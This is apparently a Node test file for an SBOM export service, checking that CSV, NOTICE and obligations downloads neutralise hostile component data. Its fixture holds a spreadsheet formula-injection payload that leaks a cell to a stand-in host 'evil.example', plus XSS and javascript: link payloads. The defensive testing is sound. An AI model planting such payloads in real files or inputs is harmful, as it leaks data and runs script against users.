// Exports never pass SBOM text through raw (issue 13 item 6): spreadsheet formulas in bom.csv are
// neutralised, NOTICE and obligations Markdown carry no HTML and no javascript: links, HTML NOTICE is
// escaped.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { sqliteTarget } from '../store/support/databases.js';
import { bearer, startApi, type ApiHarness } from './support.js';

const HOSTILE = {
  bomFormat: 'CycloneDX',
  specVersion: '1.5',
  version: 1,
  // Components without a purl are known by their name: the name is what exports print.
  components: [
    {
      type: 'library',
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
      version: '1.0.0',
      licenses: [{ license: { id: 'MIT' } }],
      copyright: '<img src=x onerror=alert(1)> (c) [click me](javascript:alert(2))',
      externalReferences: [{ type: 'website', url: 'javascript:alert(3)' }],
    },
    { type: 'library', name: '@evil/plus', version: '+1', licenses: [{ license: { id: 'MIT' } }] },
    { type: 'library', name: '<script>alert(4)</script>', version: '2.0.0', licenses: [{ license: { id: 'MIT' } }] },
    {
      type: 'library',
      name: "d'Artagnan",
      version: '1.0.0',
      licenses: [{ license: { id: 'MIT' } }],
      copyright: "Copyright (c) Tim O'Reilly & Co.",
    },
    {
      type: 'library',
      name: 'ordinary',
      version: '3.0.0',
      purl: 'pkg:npm/ordinary@3.0.0',
      licenses: [{ license: { id: 'MIT' } }],
      externalReferences: [{ type: 'website', url: 'https://example.org/ordinary' }],
    },
  ],
};

let api: ApiHarness;
let releaseId: number;
let guest: Record<string, string>;

before(async () => {
  api = await startApi(sqliteTarget());
  const pm = bearer(api.tokens['project-manager']);
  guest = bearer(api.tokens.guest);
  const product = (
    await api.app.inject({ method: 'POST', url: '/api/products', headers: pm, payload: { name: 'Hostile' } })
  ).json();
  releaseId = (
    await api.app.inject({
      method: 'POST',
      url: `/api/products/${product.id}/releases`,
      headers: pm,
      payload: { number: '1' },
    })
  ).json().id;
  const imported = await api.app.inject({
    method: 'POST',
    url: `/api/releases/${releaseId}/imports`,
    headers: { ...pm, 'content-type': 'application/json' },
    payload: JSON.stringify(HOSTILE),
  });
  assert.equal(imported.statusCode, 201, imported.body);
  // Internal use everywhere: obligations are computed and list every component.
  const rule = await api.app.inject({
    method: 'POST',
    url: `/api/releases/${releaseId}/exploitation-rules`,
    headers: pm,
    payload: { exploitation: 'distribution' },
  });
  assert.equal(rule.statusCode, 201, rule.body);
});
after(async () => api.close());

async function download(path: string): Promise<string> {
  const res = await api.app.inject({ method: 'GET', url: `/api/releases/${releaseId}/${path}`, headers: guest });
  assert.equal(res.statusCode, 200, `${path}: ${res.body}`);
  assert.match(String(res.headers['content-disposition']), /^attachment/);
  return res.body;
}

test('bom.csv: no cell starts with a formula character', async () => {
  const csv = await download('bom.csv');
  const cells = csv
    .trim()
    .split('\r\n')
    .slice(1)
    .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
    .map((cell) => cell.replace(/,$/, '').replace(/^"(.*)"$/s, '$1'));
  assert.ok(
    cells.some((c) => c.startsWith(`'=HYPERLINK(`)),
    'the formula is kept as text, apostrophe first',
  );
  assert.ok(
    cells.some((c) => c === `'+1`),
    'a version starting with + is neutralised',
  );
  assert.ok(
    cells.some((c) => c === `'@evil/plus`),
    'a name starting with @ is neutralised',
  );
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
});

test('NOTICE Markdown: no raw HTML, no javascript: link, http(s) homepages still linked', async () => {
  const md = await download('notice?format=md');
  assert.doesNotMatch(md, /<img|<script/i);
  assert.doesNotMatch(md, /\]\(javascript:|<javascript:/i);
  assert.match(md, /&lt;img src=x onerror=alert\\\(1\\\)&gt;/);
  assert.match(md, /<https:\/\/example\.org\/ordinary>/);
  // An apostrophe needs no escape in Markdown; an entity for it would print as "&\#39;".
  assert.match(md, /### d'Artagnan 1\.0\.0/);
  assert.match(md, /Copyright \\\(c\\\) Tim O'Reilly &amp; Co\./);
  assert.doesNotMatch(md, /&\\#/);
});

test('NOTICE HTML: everything escaped, only http(s) links', async () => {
  const html = await download('notice?format=html');
  assert.doesNotMatch(html, /<img|<script>alert/i);
  assert.doesNotMatch(html, /href="javascript:/i);
  assert.match(html, /&lt;script&gt;alert\(4\)&lt;\/script&gt;/);
  assert.match(html, /<a href="https:\/\/example\.org\/ordinary"/);
});

test('obligations Markdown: component names are escaped', async () => {
  const md = await download('obligations/document?format=md');
  assert.match(md, /script/, 'the hostile component is listed');
  assert.doesNotMatch(md, /<script|<img/i);
  assert.match(md, /d'Artagnan@1\.0\.0/);
});
